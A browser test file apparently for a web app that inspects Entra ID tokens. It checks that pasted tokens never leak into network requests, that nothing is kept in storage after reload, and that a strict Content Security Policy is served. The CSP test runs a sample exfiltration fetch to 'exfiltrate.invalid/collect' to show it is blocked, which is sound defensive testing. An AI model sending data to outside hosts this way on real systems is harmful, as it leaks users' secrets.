import { describe, expect, inject, it } from 'vitest'
import type { Request } from 'playwright-core'
import { ENTRA_LOGIN_ORIGINS } from '../../src/security/csp.js'
import { testKey } from '../support/mint-token.js'
import { answerEntra, loadSample, openApp, paste, watchConsole, useChromium } from './browser.js'
import { tokenLike } from './tokens.js'

interface Recorded {
  url: string
  method: string
  headers: string
  body: string
}

const key = testKey()

const browser = useChromium()

/** Every 16-character window of the token (step 4): a leak of any recognisable piece is caught. */
function pieces(token: string): string[] {
  const out: string[] = []
  for (let i = 0; i + 16 <= token.length; i += 4) out.push(token.slice(i, i + 16))
  return out
}

describe('privacy in Chromium', () => {
  it('the token never leaves the page and nothing is kept after paste → sample → verify → reload', async () => {
    const context = await browser().newContext()
    const page = await context.newPage()
    const consoleMessages = watchConsole(page)
    const requests: Recorded[] = []
    const pendingRecords: Promise<void>[] = []
    page.on('request', (r: Request) => {
      pendingRecords.push(
        (async () => {
          requests.push({
            url: r.url(),
            method: r.method(),
            headers: JSON.stringify(await r.allHeaders()),
            body: r.postData() ?? '',
          })
        })(),
      )
    })
    const appUrl = inject('appUrl')
    const entraRequests = await answerEntra(page, key)
    await openApp(page, appUrl)

    const pasted = tokenLike('healthy', key)
    await paste(page, pasted)
    await loadSample(page, 'healthy')
    const sample = await page.locator('cc-token-input textarea').inputValue()
    // The signature is checked by default: at most GETs of Entra metadata and key sets may follow.
    await paste(page, pasted)
    await page.locator('cc-signature-panel [data-status="valid"]').waitFor()
    expect(entraRequests.length).toBeGreaterThan(0)
    for (const view of ['consent', 'reference', 'inspect'])
      await page.locator(`nav [data-view="${view}"]`).click()

    await page.reload()
    await page.locator('cc-token-input textarea').waitFor()
    await Promise.all(pendingRecords)

    const origin = new URL(appUrl).origin
    for (const r of requests) {
      const allowed = new URL(r.url).origin === origin || ENTRA_LOGIN_ORIGINS.includes(new URL(r.url).origin)
      expect(allowed, `request to ${r.url}`).toBe(true)
      expect(r.method, `${r.method} ${r.url}`).toBe('GET')
      for (const token of [pasted, sample]) {
        for (const piece of pieces(token)) {
          expect(
            r.url.includes(piece) || r.headers.includes(piece) || r.body.includes(piece),
            `token piece in a request to ${r.url}`,
          ).toBe(false)
        }
      }
    }

    const kept = await page.evaluate(async () => ({
      local: localStorage.length,
      // The one thing a tab keeps: the admin-consent builder's state (a random value, not a token), so the redirect
      // reader can check it after a reload (issue 13, point 7).
      session: Object.keys(sessionStorage).filter((k) => k !== 'claimcheck.consent-state').length,
      consentState: sessionStorage.getItem('claimcheck.consent-state'),
      indexedDb: (await indexedDB.databases()).length,
      cookie: document.cookie,
      caches: (await caches.keys()).length,
      href: location.href,
      history: history.length,
    }))
    // The address keeps only the last view's name (a deep link, issue 24): never a token or a setting.
    expect(kept).toMatchObject({
      local: 0,
      session: 0,
      indexedDb: 0,
      cookie: '',
      caches: 0,
      href: `${appUrl}#inspect`,
    })
    expect(kept.consentState).toMatch(/^[0-9a-f]{32}$/)
    expect(await context.cookies()).toEqual([])
    await expect(page.locator('cc-token-input textarea').inputValue()).resolves.toBe('')
    expect(consoleMessages).toEqual([])
    await context.close()
  })

  it('is served with the strict CSP as headers and as a meta tag, and the CSP blocks other hosts', async () => {
    const context = await browser().newContext()
    const page = await context.newPage()
    const requested: string[] = []
    page.on('request', (r) => requested.push(r.url()))
    const response = await page.goto(inject('appUrl'))
    const header = (await response?.allHeaders())?.['content-security-policy'] ?? ''
    for (const directive of [
      "default-src 'none'",
      "script-src 'self'",
      "base-uri 'none'",
      "form-action 'none'",
      "frame-ancestors 'none'",
    ]) {
      expect(header).toContain(directive)
    }
    for (const entra of ENTRA_LOGIN_ORIGINS) expect(header).toContain(entra)
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
    expect(meta).toContain("default-src 'none'")
    expect(meta).toContain('connect-src https://login.microsoftonline.com')
    const outcome = await page.evaluate(() =>
      fetch('https://exfiltrate.invalid/collect', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    )
    expect(outcome).toBe('blocked')
    expect(requested.some((u) => u.includes('exfiltrate.invalid'))).toBe(false)
    await context.close()
  })
})
